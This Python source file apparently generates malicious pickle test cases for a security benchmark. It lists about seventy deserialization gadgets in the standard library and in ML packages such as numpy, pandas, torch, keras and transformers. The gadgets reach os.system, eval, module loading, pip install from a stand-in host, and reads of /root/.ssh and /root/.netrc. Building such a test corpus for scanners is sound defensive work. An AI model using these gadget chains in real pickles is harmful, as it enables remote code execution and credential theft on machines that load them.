"""Functions that nobody lists: each runs, loads, fetches or writes what it is given. Arguments are inert."""

from __future__ import annotations

import re
from collections.abc import Iterator

from benchmarks.corpus.malicious.asm import C, Call, Encoder, S
from benchmarks.corpus.malicious.cases import Case
from benchmarks.corpus.malicious.payloads import CODE, COMMAND, COMMANDS, HOST, LIBRARY, PICKLE, PORT, SECRET, SOURCE, URL

_FETCH = COMMANDS[1]

ROWS: tuple[tuple[str, Call], ...] = (
    ("pipes", C(C("builtins:getattr", C("pipes:Template"), "open"), f"; {COMMAND}", "r")),
    ("type-hints", C("typing:get_type_hints", C("builtins:type", "T", (), {"__annotations__": {"a": CODE}}))),
    ("completer", C(C("builtins:getattr", C("rlcompleter:Completer"), "attr_matches"), f"{CODE}.x")),
    ("plural", C("gettext:c2py", f"n and {CODE}")),
    ("mock", C(C("unittest.mock:_importer", "os.system"), COMMAND)),
    ("ldconfig", C("ctypes.util:_findSoname_ldconfig", "x;id")),
    ("module-finder", C(C("builtins:getattr", C("modulefinder:ModuleFinder"), "run_script"), SOURCE)),
    ("event-loop", C("asyncio:run", C("asyncio:create_subprocess_shell", COMMAND))),
    (
        "popen-fork",
        C("multiprocessing.popen_spawn_posix:Popen", C("multiprocessing:Process", None, S("os:system"), "n", (COMMAND,))),
    ),
    ("spawn-main", C("multiprocessing.spawn:prepare", {"init_main_from_path": SOURCE})),
    ("import-main", C("multiprocessing.spawn:_fixup_main_from_path", SOURCE)),
    ("fork-server", C("multiprocessing.forkserver:main", 3, 4, ["os"], SOURCE)),
    (
        "source-loader",
        C(C("builtins:getattr", C("importlib.machinery:SourcelessFileLoader", "m", "/tmp/toadstone-inert.pyc"), "load_module")),
    ),
    ("zip-import", C(C("builtins:getattr", C("zipimport:zipimporter", "/tmp/toadstone-inert.zip"), "load_module"), "m")),
    ("exec-module", C("imp:load_source", "m", SOURCE)),
    ("compile-eval", C("builtins:eval", C("builtins:compile", CODE, "m", "eval"))),
    ("code-type", C("code:interact", CODE, None, {"__name__": CODE})),
    ("http-request", C(C("builtins:getattr", C("http.client:HTTPConnection", HOST, PORT), "connect"))),
    ("cookie-jar", C(C("builtins:getattr", C("http.cookiejar:LWPCookieJar", SECRET), "save"))),
    ("netrc", C("netrc:netrc", "/root/.netrc")),
    ("dbm", C("dbm:open", "/root/.bashrc", "n")),
    ("tempfile", C("tempfile:NamedTemporaryFile", "w+b", -1, None, None, None, "../../etc/cron.d/", "/")),
    ("make-archive", C("shutil:make_archive", "/tmp/toadstone-inert", "zip", "/root/.ssh")),
    ("copy-tree", C("distutils.dir_util:copy_tree", "/root/.ssh", "/tmp/toadstone-inert")),
    ("file-handler", C("logging.handlers:HTTPHandler", f"{HOST}:{PORT}", "/k?", "POST")),
    (
        "dict-configurator",
        C(
            C(
                "builtins:getattr",
                C("logging.config:DictConfigurator", {"version": 1, "handlers": {"h": {"()": "os.system", "command": COMMAND}}}),
                "configure",
            )
        ),
    ),
    ("xml-rpc", C(C("builtins:getattr", C("xmlrpc.client:ServerProxy", URL), "run"), COMMAND)),
    ("ctypes-c", C(C("builtins:getattr", C("ctypes:CDLL", None), "system"), COMMAND.encode())),
    ("sqlite-load", C(C("builtins:getattr", C("sqlite3:connect", ":memory:"), "execute"), f"select load_extension('{LIBRARY}')")),
    ("dask-graph", C("dask.core:get", {"x": (S("os:system"), COMMAND)}, "x")),
    ("dask-sync", C("dask.local:get_sync", {"x": (S("os:system"), COMMAND)}, "x")),
    ("toolz-pipe", C("toolz.functoolz:pipe", COMMAND, S("os:system"))),
    ("cytoolz-apply", C("toolz.functoolz:apply", S("os:system"), COMMAND)),
    ("jax-tree", C("jax.tree_util:tree_map", S("os:system"), [COMMAND])),
    ("optree", C("optree:tree_map", S("os:system"), [COMMAND])),
    ("thread-map", C("tqdm.contrib.concurrent:thread_map", S("os:system"), [COMMAND])),
    ("itertools-starmap", C("collections:deque", C("itertools:starmap", S("os:system"), [(COMMAND,)]), 0)),
    ("filter", C("builtins:list", C("builtins:filter", S("os:system"), [COMMAND]))),
    ("max-accumulate", C("builtins:list", C("itertools:accumulate", [COMMAND, ""], S("subprocess:getoutput")))),
    ("vectorize", C(C("numpy:vectorize", S("os:system")), [COMMAND])),
    ("piecewise", C("numpy:piecewise", 1.0, [True], [S("os:system")], COMMAND)),
    ("fromiter", C("numpy:fromiter", C("builtins:map", S("os:system"), [COMMAND]), "i4")),
    ("apply-over-axes", C("numpy:apply_over_axes", S("os:popen"), COMMAND, [0])),
    ("cpuinfo", C("numpy.distutils.cpuinfo:getoutput", COMMAND)),
    ("exec-mod", C("numpy.distutils.misc_util:exec_mod_from_location", "m", SOURCE)),
    ("pandas-map", C(C("builtins:getattr", C("pandas:Series", [COMMAND]), "map"), S("os:system"))),
    ("pandas-agg", C(C("builtins:getattr", C("pandas:DataFrame", {"a": [1]}), "pipe"), S("os:system"))),
    ("pandas-sql", C("pandas:read_sql_query", "select load_extension('x')", f"sqlite:///{PICKLE}")),
    ("pandas-hdf", C("pandas:read_hdf", "http://198.51.100.7/x.h5")),
    ("torch-subprocess", C("torch._inductor.cpp_builder:run_compile_cmd", _FETCH, "/tmp")),
    (
        "torch-rpc",
        C(
            "torch.distributed.rpc.internal:_run_function",
            C("torch.distributed.rpc.internal:PythonUDF", S("os:system"), (COMMAND,), {}),
        ),
    ),
    (
        "torch-package",
        C(C("builtins:getattr", C("torch.package:PackageImporter", "/tmp/toadstone-inert.zip"), "import_module"), "m"),
    ),
    ("torch-sympy", C("torch.utils._sympy.reference:_run_sympy_handler", CODE)),
    ("sympy-parser", C("sympy.parsing.sympy_parser:stringify_expr", CODE, {}, {}, ())),
    ("scipy-matlab", C("scipy.io:loadmat", "/root/.ssh/x.mat")),
    (
        "sklearn-fetch",
        C("sklearn.datasets._base:_fetch_remote", C("sklearn.datasets._base:RemoteFileMetadata", "x", URL, "00"), "/tmp"),
    ),
    ("tf-load", C("tensorflow.python.saved_model.load:load", "/tmp/toadstone-inert")),
    ("keras-func", C("keras.src.legacy.saving.serialization:func_load", "4wAAAAA=")),
    ("hub-http", C("huggingface_hub.file_download:http_get", URL, C("builtins:open", "/tmp/toadstone-inert", "wb"))),
    ("transformers-agent", C("transformers.agents.python_interpreter:evaluate_python_code", CODE, {})),
    ("smolagents", C("smolagents.local_python_executor:evaluate_python_code", CODE, {})),
    ("ray-remote", C("ray._private.utils:load_class", "os.system")),
    ("celery", C("celery.utils.imports:instantiate", "subprocess:Popen", COMMAND)),
    ("twisted", C("twisted.python.reflect:namedAny", "os.system")),
    ("zope", C("zope.dottedname.resolve:resolve", "os.system")),
    ("traitlets", C("traitlets.utils.importstring:import_item", "os.system")),
    (
        "click-runner",
        C(C("builtins:getattr", C("click.testing:CliRunner"), "invoke"), S("pip:main"), ["install", "http://198.51.100.7/x.whl"]),
    ),
    ("conda", C("conda.gateways.subprocess:subprocess_call", COMMAND)),
    ("sh-module", C("sh:Command", "/bin/sh")),
    ("unknown-command", C("payload_utils.runner:go", _FETCH)),
    ("unknown-code", C("acme_models.hooks:restore", CODE)),
    ("unknown-address", C("acme_models.hooks:restore", {"weights": URL, "then": "exec"})),
)


def cases() -> Iterator[Case]:
    """One pickle each, protocols in turn."""
    for number, (name, call) in enumerate(ROWS):
        value = {"state_dict": {"bias": [0.5]}, "hook": call} if number % 2 else [1.0, call]
        data = Encoder((4, 2, 5, 3)[number % 4]).dumps(value)
        yield Case(f"gadgets/{re.sub('[^a-z0-9-]', '-', name)}.pkl", data, f"tricks-gadget-{name}")
